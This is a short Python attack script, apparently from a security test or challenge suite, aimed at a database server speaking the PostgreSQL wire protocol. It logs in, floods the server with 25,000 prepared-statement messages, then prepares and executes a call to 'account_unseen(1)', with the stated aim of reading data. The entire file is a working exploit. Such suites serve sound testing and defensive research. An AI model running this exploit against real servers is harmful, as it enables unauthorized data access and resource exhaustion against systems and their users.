"""Prepares thousands of statements before the one that counts."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        many = b"".join(parse(b"SELECT %d" % n, b"s%d" % n) for n in range(25_000))
        ask(client, many, SYNC)
        return ask(
            client, parse(b"SELECT account_unseen(1)", b"last"), bind(b"last"), execute(), SYNC
        )
